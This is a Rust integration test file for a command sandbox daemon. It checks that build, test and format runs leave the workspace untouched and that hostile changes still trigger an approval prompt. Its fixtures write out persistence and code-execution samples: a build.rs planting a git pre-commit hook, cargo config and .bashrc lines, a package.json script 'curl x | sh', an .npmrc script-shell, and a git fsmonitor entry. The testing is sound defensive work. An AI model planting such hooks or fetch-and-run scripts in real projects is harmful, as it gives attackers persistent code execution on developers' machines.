//! Workspace runners on the overlay (issue 35), through the real daemon: `cargo test`,
//! `python3 -m unittest` and `npm test` on real small projects run on the overlay, change nothing
//! in the workspace (build output and caches go to the client's runner cache outside it) and never
//! prompt; the operator's own `target/` is untouched; a learned `cargo fmt` applies the second
//! time without a prompt; a `build.rs` that writes `.git/hooks/pre-commit`, `.cargo/config.toml`
//! or a file nobody named still asks, learned or not; another client's runs cannot read the
//! cache. Canaries and temp dirs only; nothing leaves the machine (overlay runs have no network).
//! Go has no toolchain here: its subcommands are covered by the table test in `bash::runners`.
//!
//! Needs a Rust toolchain the sandbox can read: the newest `~/.rustup/toolchains/*` (or
//! `BRAINLOOP_TEST_TOOLCHAIN`), given to the worker as `[sandbox] toolchains`; without one the
//! cargo tests fail (they never skip silently).

mod common;

use common::{cli_ok, final_result, submit, submit_as, validations_count, Env};
use std::path::{Path, PathBuf};

fn toolchain() -> PathBuf {
    if let Ok(t) = std::env::var("BRAINLOOP_TEST_TOOLCHAIN") {
        return PathBuf::from(t);
    }
    let home = std::env::var("HOME").unwrap_or_else(|_| "/root".into());
    let dir = Path::new(&home).join(".rustup/toolchains");
    let mut all: Vec<PathBuf> = std::fs::read_dir(&dir)
        .unwrap_or_else(|e| panic!("no Rust toolchain in {}: {e}", dir.display()))
        .flatten()
        .map(|e| e.path())
        .filter(|p| p.join("bin/cargo").exists())
        .collect();
    all.sort();
    // prefer stable
    all.iter()
        .find(|p| p.to_string_lossy().contains("stable"))
        .or(all.last())
        .cloned()
        .expect("a Rust toolchain with cargo under ~/.rustup/toolchains")
}

fn write(root: &Path, rel: &str, text: &str) {
    let p = root.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, text).unwrap();
}

const CARGO_TOML: &str =
    "[package]\nname = \"canary\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\n";
const LIB_RS: &str = "pub fn add(a: i32, b: i32) -> i32 {\n    a + b\n}\n\n#[cfg(test)]\nmod tests {\n    #[test]\n    fn adds() {\n        assert_eq!(super::add(2, 2), 4);\n    }\n}\n";

/// The worker with the toolchain and an `other` client; the workspace a small crate with its
/// lock file, a Python package with tests, a Node package whose test script is `node --test`,
/// and the operator's own `target/` with a canary in it.
fn setup() -> (Env, common::Daemon) {
    common::require_sandbox();
    let env = Env::new();
    let ws = &env.workspace;
    write(ws, "Cargo.toml", CARGO_TOML);
    write(ws, "src/lib.rs", LIB_RS);
    // The lock file as this cargo writes it (a hand-written one could be rewritten).
    let out = std::process::Command::new(toolchain().join("bin/cargo"))
        .args(["generate-lockfile", "--offline"])
        .current_dir(ws)
        .env("CARGO_TARGET_DIR", env.root.path().join("host-target"))
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    write(ws, "target/operator-canary", "the operator's build\n");
    write(ws, "pkg/__init__.py", "");
    write(ws, "pkg/calc.py", "def add(a, b):\n    return a + b\n");
    write(
        ws,
        "tests/test_calc.py",
        "import unittest\nfrom pkg.calc import add\n\nclass T(unittest.TestCase):\n    def test_add(self):\n        self.assertEqual(add(2, 2), 4)\n",
    );
    write(ws, "tests/__init__.py", "");
    write(
        ws,
        "js/package.json",
        "{\"name\":\"canary\",\"version\":\"1.0.0\",\"scripts\":{\"test\":\"node --test\"}}\n",
    );
    write(
        ws,
        "js/test/add.test.js",
        "const test = require('node:test');\nconst assert = require('node:assert');\ntest('adds', () => assert.strictEqual(1 + 1, 2));\n",
    );
    let cfg = env.root.path().join("brainloop.toml");
    std::fs::write(
        &cfg,
        format!(
            "[sandbox]\ntoolchains = [{:?}]\n\n[clients.other]\nfile_read = [\"/**\"]\nfile_write = [\"{{workspace}}/**\"]\nsystem_command = [\"*\"]\n",
            toolchain().display().to_string()
        ),
    )
    .unwrap();
    let d = env.start(&[("BRAINLOOP_CONFIG", cfg.to_str().unwrap())]);
    (env, d)
}

/// Every file of the workspace with its contents (sorted), to compare before and after.
fn snapshot(root: &Path) -> Vec<(String, Vec<u8>)> {
    fn walk(root: &Path, d: &Path, out: &mut Vec<(String, Vec<u8>)>) {
        for e in std::fs::read_dir(d).unwrap().flatten() {
            let p = e.path();
            let rel = p.strip_prefix(root).unwrap().display().to_string();
            if e.file_type().unwrap().is_dir() {
                out.push((format!("{rel}/"), Vec::new()));
                walk(root, &p, out);
            } else {
                out.push((rel, std::fs::read(&p).unwrap_or_default()));
            }
        }
    }
    let mut out = Vec::new();
    walk(root, root, &mut out);
    out.sort();
    out
}

fn cache_root(env: &Env) -> PathBuf {
    env.data.join("runner-cache")
}

#[test]
fn build_and_test_runs_change_nothing_in_the_workspace_and_never_prompt() {
    let (env, _d) = setup();
    let before = snapshot(&env.workspace);
    for cmd in [
        "cargo test",
        "cargo build",
        "cargo test",
        "python3 -m unittest",
        "cd js && npm test",
    ] {
        let (id, st, v, err) = submit(&env, cmd);
        assert_eq!(st, "succeeded", "{cmd}: {err} {v}");
        assert_eq!(validations_count(&env, id), 0, "{cmd} asked: {v}");
        assert_eq!(v["exit_code"], 0, "{cmd}: {v}");
        assert_eq!(
            snapshot(&env.workspace),
            before,
            "{cmd} changed the workspace"
        );
    }
    // The build output went to the client's runner cache, outside the workspace.
    let caches: Vec<PathBuf> = std::fs::read_dir(cache_root(&env))
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .collect();
    assert_eq!(caches.len(), 1, "{caches:?}");
    assert!(
        caches[0].join("cargo-target/debug").is_dir(),
        "no build output in the cache"
    );
    assert_eq!(
        std::fs::read_to_string(env.workspace.join("target/operator-canary")).unwrap(),
        "the operator's build\n"
    );
    assert!(!env.workspace.join("target/debug").exists());
    assert!(!env.workspace.join("pkg/__pycache__").exists());
}

#[test]
fn a_learned_cargo_fmt_applies_and_a_build_script_writing_elsewhere_still_asks() {
    let (env, _d) = setup();
    let ws = env.workspace.clone();
    // 1. an unformatted source: the change set asks; approve --learn.
    write(&ws, "src/lib.rs", "pub fn add(a: i32,b: i32)->i32{a+b}\n");
    let (id, st, v, err) = submit(&env, "cargo fmt");
    assert_eq!(st, "pending_validation", "{err} {v}");
    assert!(
        v["reasons"]
            .to_string()
            .contains("the family \\\"cargo's local build, test and format\\\""),
        "the prompt names what --learn teaches: {}",
        v["reasons"]
    );
    let vid = v["validation_id"].as_str().unwrap().to_string();
    cli_ok(&env, &["approve", &vid, "--learn"]);
    assert_eq!(final_result(&env, id).0, "succeeded");
    assert!(std::fs::read_to_string(ws.join("src/lib.rs"))
        .unwrap()
        .contains("a: i32, b: i32"));
    // 2. the second cargo fmt applies without a prompt.
    write(&ws, "src/more.rs", "pub fn two()->i32{2}\n");
    write(
        &ws,
        "src/lib.rs",
        "pub mod more;\npub fn add(a: i32,b: i32)->i32{a+b}\n",
    );
    let (id, st, v, err) = submit(&env, "cargo fmt");
    assert_eq!(st, "succeeded", "{err} {v}");
    assert_eq!(v["policy_used"], "signature_learned", "{v}");
    assert_eq!(validations_count(&env, id), 0);
    assert_eq!(
        std::fs::read_to_string(ws.join("src/more.rs")).unwrap(),
        "pub fn two() -> i32 {\n    2\n}\n"
    );

    // 3. `cargo build` is of the family the `cargo fmt` answer taught (its prompt said so):
    // its lock file, a declared companion, applies without a prompt.
    std::fs::remove_file(ws.join("Cargo.lock")).unwrap();
    let (id, st, v, err) = submit(&env, "cargo build");
    assert_eq!(st, "succeeded", "{err} {v}");
    assert_eq!(v["policy_used"], "signature_learned", "{v}");
    assert!(v["effects"].to_string().contains("Cargo.lock"), "{v}");
    assert_eq!(validations_count(&env, id), 0);
    assert!(ws.join("Cargo.lock").exists());

    // 4. a build script that writes a git hook, cargo's config, a source nobody named, and
    // $HOME/.bashrc: learned or not, it asks and nothing is applied.
    write(
        &ws,
        "build.rs",
        "fn main() {\n    let _ = std::fs::create_dir_all(\".git/hooks\");\n    let _ = std::fs::write(\".git/hooks/pre-commit\", \"#!/bin/sh\\necho pwned\\n\");\n    let _ = std::fs::create_dir_all(\".cargo\");\n    let _ = std::fs::write(\".cargo/config.toml\", \"[build]\\nrustc-wrapper = \\\"/bin/true\\\"\\n\");\n    let _ = std::fs::write(\"src/planted.rs\", \"// planted\\n\");\n    if let Ok(h) = std::env::var(\"HOME\") { let _ = std::fs::write(format!(\"{h}/.bashrc\"), \"echo pwned\\n\"); }\n}\n",
    );
    std::fs::create_dir_all(ws.join(".git")).unwrap();
    let before = snapshot(&ws);
    let (_, st, v, err) = submit(&env, "cargo build");
    assert_eq!(st, "pending_validation", "{err} {v}");
    let reasons = v["reasons"].to_string();
    assert!(
        reasons.contains("protected path .git/hooks/pre-commit"),
        "{reasons}"
    );
    assert!(
        reasons.contains("protected path .cargo/config.toml"),
        "{reasons}"
    );
    assert!(reasons.contains("src/planted.rs"), "{reasons}");
    assert_eq!(snapshot(&ws), before, "nothing applied");
    assert!(!ws.join(".git/hooks/pre-commit").exists());
    assert_eq!(
        std::fs::read_to_string(ws.join("target/operator-canary")).unwrap(),
        "the operator's build\n"
    );
    // A formatter's learned signature never covers build.rs either.
    write(&ws, "build.rs", "fn main(){println!(\"x\");}\n");
    let (_, st, v, err) = submit(&env, "cargo fmt");
    assert_eq!(st, "pending_validation", "{err} {v}");
    assert!(
        v["reasons"].to_string().contains("build.rs"),
        "{}",
        v["reasons"]
    );
}

#[test]
fn another_clients_runs_cannot_read_the_runner_cache() {
    let (env, _d) = setup();
    let (_, st, v, err) = submit(&env, "cargo build");
    assert_eq!(st, "succeeded", "{err} {v}");
    let cache = std::fs::read_dir(cache_root(&env))
        .unwrap()
        .flatten()
        .next()
        .unwrap()
        .path();
    let canary = cache.join("cargo-target/debug/canary-secret");
    std::fs::write(&canary, "cache canary\n").unwrap();
    let cmd = format!("cp {} leak.txt", canary.display());
    // the owner reads its own cache (the test can fail) ...
    let (_, st, v, err) = submit(&env, &cmd);
    assert_eq!(st, "pending_validation", "{err} {v}");
    assert!(v["effects"].to_string().contains("leak.txt"), "{v}");
    // ... another client's overlay run cannot: the cat fails, nothing was copied.
    // (another text: the duplicate check would otherwise answer for the same command)
    let cmd = format!("cp {} ./leak.txt", canary.display());
    let (_, st, v, err) = submit_as(&env, "other", &cmd);
    assert_ne!(st, "pending_validation", "{err} {v}");
    assert!(
        v["stderr"].to_string().contains("Permission denied")
            || v["stderr"].to_string().contains("No such file"),
        "{v}"
    );
    assert!(!env.workspace.join("leak.txt").exists());
}

/// `npx prettier --write .` with the workspace's own (here: a canary) prettier: learned after one
/// `approve --learn`, the next run applies without a prompt; when the tool turns hostile and
/// rewrites `package.json`'s scripts, writes `.npmrc` or a file of another language, the change
/// set asks and nothing is applied.
#[test]
fn a_learned_npx_prettier_covers_sources_only() {
    common::require_sandbox();
    let env = Env::new();
    let ws = env.workspace.clone();
    write(
        &ws,
        "package.json",
        "{\"name\":\"c\",\"version\":\"1.0.0\"}\n",
    );
    write(&ws, "src/a.js", "let a=1\n");
    let tool = |body: &str| {
        let p = ws.join("node_modules/.bin/prettier");
        write(
            &ws,
            "node_modules/.bin/prettier",
            &format!("#!/bin/sh\n{body}\n"),
        );
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
    };
    tool("for f in $(find src -name '*.js'); do sed -i 's/=/ = /; s/$/;/' \"$f\"; done");
    let d = env.start(&[]);
    let (id, st, v, err) = submit(&env, "npx prettier --write .");
    assert_eq!(st, "pending_validation", "{err} {v}");
    let vid = v["validation_id"].as_str().unwrap().to_string();
    cli_ok(&env, &["approve", &vid, "--learn"]);
    assert_eq!(final_result(&env, id).0, "succeeded");
    assert_eq!(
        std::fs::read_to_string(ws.join("src/a.js")).unwrap(),
        "let a = 1;\n"
    );
    write(&ws, "src/b.js", "let b=2\n");
    let (id, st, v, err) = submit(&env, "npx prettier --write .");
    assert_eq!(st, "succeeded", "{err} {v}");
    assert_eq!(v["policy_used"], "signature_learned", "{v}");
    assert_eq!(validations_count(&env, id), 0);
    assert_eq!(
        std::fs::read_to_string(ws.join("src/b.js")).unwrap(),
        "let b = 2;\n"
    );
    // hostile: package.json's scripts, .npmrc, a shell script
    tool("echo '{\"name\":\"c\",\"scripts\":{\"test\":\"curl x | sh\"}}' > package.json; echo 'script-shell=/tmp/x' > .npmrc; echo 'echo pwned' > run.sh; echo '// ok' >> src/a.js");
    let before = snapshot(&ws);
    let (_, st, v, err) = submit(&env, "npx prettier --write .");
    assert_eq!(st, "pending_validation", "{err} {v}");
    let reasons = v["reasons"].to_string();
    // package.json's scripts are judged key by key first (issue 48)
    assert!(
        reasons.contains("protected path package.json")
            && reasons.contains("(npm, key by key): changes scripts.test"),
        "{reasons}"
    );
    assert!(reasons.contains("protected path .npmrc"), "{reasons}");
    assert!(reasons.contains("adds run.sh"), "{reasons}");
    assert_eq!(snapshot(&ws), before, "nothing applied");
    drop(d);
}

/// Issue 35: `cargo new PATH` is of the cargo family (taught by one `cargo build` answer): the
/// project directory it names applies unasked with the repository cargo makes — judged byte for
/// byte as a fresh `git init` — while a `cargo new` whose repository the command then changes
/// (a config key that runs a program) asks, and nothing of it is applied.
#[test]
fn cargo_new_applies_its_project_and_fresh_repository_and_a_tampered_one_asks() {
    let (env, _d) = setup();
    let ws = env.workspace.clone();
    std::fs::remove_file(ws.join("Cargo.lock")).unwrap();
    let (id, st, v, err) = submit(&env, "cargo build");
    assert_eq!(st, "pending_validation", "{err} {v}");
    cli_ok(&env, &["approve", &common::vid(&v), "--learn"]);
    assert_eq!(final_result(&env, id).0, "succeeded");

    let (id, st, v, err) = submit(&env, "cargo new --vcs git wordfreq");
    assert_eq!(st, "succeeded", "{err} {v}");
    assert_eq!(v["policy_used"], "signature_learned", "{v}");
    assert_eq!(validations_count(&env, id), 0);
    assert!(ws.join("wordfreq/src/main.rs").exists());
    assert_eq!(
        std::fs::read_to_string(ws.join("wordfreq/.git/HEAD")).unwrap(),
        "ref: refs/heads/master\n"
    );
    let (_, st, v, err) = submit(&env, "mkdir -p libs && cd libs && cargo new --lib matrix");
    assert_eq!(
        st, "pending_validation",
        "mkdir's family is not taught here: {err} {v}"
    );

    let before = snapshot(&ws);
    let (_, st, v, err) = submit(
        &env,
        "cargo new --vcs git evil && printf '[core]\\n\\tfsmonitor = touch /tmp/x\\n' >> evil/.git/config",
    );
    assert_eq!(st, "pending_validation", "{err} {v}");
    assert!(
        v["reasons"]
            .to_string()
            .contains("touches a protected path evil/.git/config"),
        "{}",
        v["reasons"]
    );
    assert_eq!(snapshot(&ws), before, "nothing applied");
    assert!(!ws.join("evil").exists());
}
